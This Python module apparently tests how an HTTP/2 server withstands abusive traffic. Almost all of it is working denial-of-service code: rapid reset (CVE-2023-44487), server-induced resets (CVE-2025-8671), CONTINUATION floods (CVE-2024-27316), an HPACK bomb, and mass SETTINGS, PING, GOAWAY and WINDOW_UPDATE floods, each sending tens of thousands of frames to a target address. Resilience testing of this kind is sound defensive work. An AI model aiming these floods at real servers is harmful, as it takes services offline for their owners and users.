"""Too many frames that cost the server work and bring nobody anything."""
import itertools
import random

from attack_kinds import Flood, attack
from wire import (ACK, CONTINUATION, DATA, END_HEADERS, END_STREAM, HEADERS, INITIAL_WINDOW_SIZE, LARGEST, PADDED, PROTOCOL_ERROR, REFUSED_STREAM, RST_STREAM, SETTINGS,
                  UNKNOWN, Wrong, code_name, frame, goaway, integer, literal, ping, priority, reset, settings, string, window_update)

MANY = 50_000


def streams():
    return range(1, 2 * MANY, 2)


def headers(c, stream, ends=True, path="/", method="GET", more=b""):
    """Without the dynamic table: the same bytes for each stream."""
    block = b"".join(literal(name.encode(), value.encode()) for name, value in c.fields(method, path)) + more
    return frame(HEADERS, END_HEADERS | (END_STREAM if ends else 0), stream, block)


@attack("rapid reset (CVE-2023-44487)")
def rapid_reset(address):
    flood = Flood(address)
    return flood.calmed(headers(flood.c, stream, path="/hold") + reset(stream) for stream in streams())


@attack("rapid reset of requests with content")
def rapid_reset_content(address):
    flood = Flood(address)
    return flood.calmed(headers(flood.c, stream, False, "/sum", "POST") + frame(DATA, 0, stream, b"x" * 100) + reset(stream) for stream in streams())


def makes_reset(words, make, also=()):
    """No more streams at once than are allowed: a new one for each that was reset. The first may end the connection already with `also`."""
    @attack(f"the server is made to reset (CVE-2025-8671): {words}")
    def run(address):
        flood, numbers = Flood(address), iter(streams())
        flood.answer = lambda got: make(flood.c, next(numbers)) if got.type == RST_STREAM else b""
        ended = flood.calmed([make(flood.c, next(numbers)) for _ in range(50)], also=also)
        return f"{len(flood.resets)} resets, {ended}"


def with_post(more):
    return lambda c, stream: headers(c, stream, False, "/hold", "POST") + more(stream)


makes_reset("increment 0", with_post(lambda stream: window_update(stream, 0)), also=[PROTOCOL_ERROR])
makes_reset("window overflow", with_post(lambda stream: window_update(stream, LARGEST)))
makes_reset("trailers that are none", with_post(lambda stream: frame(HEADERS, END_HEADERS, stream, literal(b"x", b"y"))))
makes_reset("malformed requests", lambda c, stream: headers(c, stream, more=literal(b"X-BAD", b"1")))


@attack("the server is made to reset and never read", kilobytes=16384)
def malformed_unread(address):
    flood = Flood(address, reads=False)
    try:
        flood.calmed((headers(flood.c, stream, more=literal(b"X-BAD", b"1")) for stream in streams()), seconds=15)
    finally:
        flood.c.socket.close()
    return flood.ended


@attack("CONTINUATION without end (CVE-2024-27316)")
def continuations(address):
    flood = Flood(address)
    first = frame(HEADERS, END_STREAM, 1, flood.c.block(flood.c.fields()))
    more = (frame(CONTINUATION, 0, 1, literal(b"x-%d" % number, b"y" * 1000)) for number in range(MANY))
    return flood.calmed(itertools.chain([first], more))


@attack("empty CONTINUATION without end")
def continuations_empty(address):
    flood = Flood(address)
    first = frame(HEADERS, END_STREAM, 1, flood.c.block(flood.c.fields()))
    return flood.calmed(itertools.chain([first], itertools.repeat(frame(CONTINUATION, 0, 1), MANY)))


def repeats(words, make):
    @attack(words)
    def run(address):
        flood = Flood(address)
        return flood.calmed(itertools.repeat(make, MANY) if isinstance(make, bytes) else (make(number) for number in range(MANY)))


repeats("SETTINGS", settings((INITIAL_WINDOW_SIZE, 65535)))
repeats("SETTINGS ACK", frame(SETTINGS, ACK))
repeats("PING", ping())
repeats("PING ACK", ping(flags=ACK))
repeats("PRIORITY", lambda number: priority(2 * number + 1))
repeats("GOAWAY", goaway())
repeats("WINDOW_UPDATE of the connection", window_update(0, 1))
repeats("frames of unknown types", lambda number: frame(UNKNOWN, random.randrange(256), number, random.randbytes(random.randrange(20))))


def within_stream(words, make, path="/sum"):
    @attack(words)
    def run(address):
        flood = Flood(address)
        return flood.calmed(itertools.chain([headers(flood.c, 1, False, path, "POST")], itertools.repeat(make, MANY)))


within_stream("empty DATA", frame(DATA, 0, 1))
within_stream("DATA of padding alone", frame(DATA, PADDED, 1, b"\0"))
within_stream("WINDOW_UPDATE of a stream", window_update(1, 1))


@attack("PING, never reading the answers")
def ping_unread(address):
    flood = Flood(address, reads=False)
    try:
        flood.calmed(itertools.repeat(ping(), MANY * 20), seconds=15)
    finally:
        flood.c.socket.close()
    return flood.ended


@attack("SETTINGS that change the window of a hundred streams to and fro")
def windows_changed(address):
    flood = Flood(address)
    begun = b"".join(headers(flood.c, stream, path="/hold") for stream in range(1, 200, 2))
    return flood.calmed(itertools.chain([begun], (settings((INITIAL_WINDOW_SIZE, number % 2 * 65535)) for number in range(MANY))))


@attack("an HPACK bomb: one large field, named again and again")
def bomb(address):
    flood = Flood(address)
    large = b"\x40" + string(b"x") + string(b"y" * 4000)  # with incremental indexing: entry 62
    block = b"".join(literal(name.encode(), value.encode()) for name, value in flood.c.fields()) + large + integer(62, 7, 0x80) * 12000
    return flood.calmed([frame(HEADERS, END_HEADERS | END_STREAM, 1, block[:16384])])


@attack("heads as large as allowed on every stream", kilobytes=32768)
def large_heads(address):
    flood = Flood(address)
    block = b"".join(literal(name.encode(), value.encode()) for name, value in flood.c.fields(path="/hold"))
    first = frame(HEADERS, END_HEADERS | END_STREAM, 1, block + b"\x40" + string(b"x") + string(b"y" * 4000))
    later = (frame(HEADERS, END_HEADERS | END_STREAM, stream, block + integer(62, 7, 0x80) * 12) for stream in range(3, 200, 2))
    try:
        flood.run(itertools.chain([first], later), seconds=4)
    except Exception as error:
        return f"bounded ({error})"
    return f"{flood.goaways}, {flood.ended}"


@attack("more streams than allowed")
def too_many(address):
    flood = Flood(address)
    flood.run((headers(flood.c, stream, path="/hold") for stream in range(1, 4001, 2)), until=lambda flood: len(flood.resets) > 100)
    if flood.goaways and flood.goaways[-1] in ("PROTOCOL_ERROR", "ENHANCE_YOUR_CALM") or set(flood.resets) == {code_name(REFUSED_STREAM)}:
        return f"{flood.goaways}, {len(flood.resets)} refused, {flood.ended}"
    raise Wrong(f"PROTOCOL_ERROR or REFUSED_STREAM wanted; came: {flood.goaways}, {set(flood.resets)}, {flood.ended}")


@attack("trailers beyond every limit")
def huge_trailers(address):
    flood = Flood(address)
    begin = headers(flood.c, 1, False, "/sum", "POST") + frame(DATA, 0, 1, b"x")
    trailers = frame(HEADERS, END_STREAM, 1, literal(b"x-0", b"y" * 16000))
    more = b"".join(frame(CONTINUATION, END_HEADERS if number == 7 else 0, 1, literal(b"x-%d" % number, b"y" * 16000)) for number in range(1, 8))
    statuses = []

    def hear(got):
        if got.type == HEADERS and got.stream == 1:
            statuses.append(dict(flood.c.heads[got.stream]).get(":status"))
        return b""
    flood.answer = hear
    flood.run([begin, trailers + more], until=lambda flood: flood.resets or statuses)
    if statuses and statuses[0] not in ("400", "431"):
        raise Wrong(f"answered {statuses[0]}")
    return f"{statuses or flood.resets or flood.goaways}"


@attack("content in single bytes", seconds=4.0)
def single_bytes(address):
    flood = Flood(address)
    answered = []
    flood.answer = lambda got: answered.append(got.payload) or b"" if got.type == DATA else b""
    small = itertools.repeat(frame(DATA, 0, 1, b"x"), 20_000)
    flood.run(itertools.chain([headers(flood.c, 1, False, "/sum", "POST")], small, [frame(DATA, END_STREAM, 1)]), until=lambda flood: answered)
    if answered != [b"20000 20000"]:
        raise Wrong(f"answered {answered}, {flood.goaways} {flood.resets}")
    return "served"
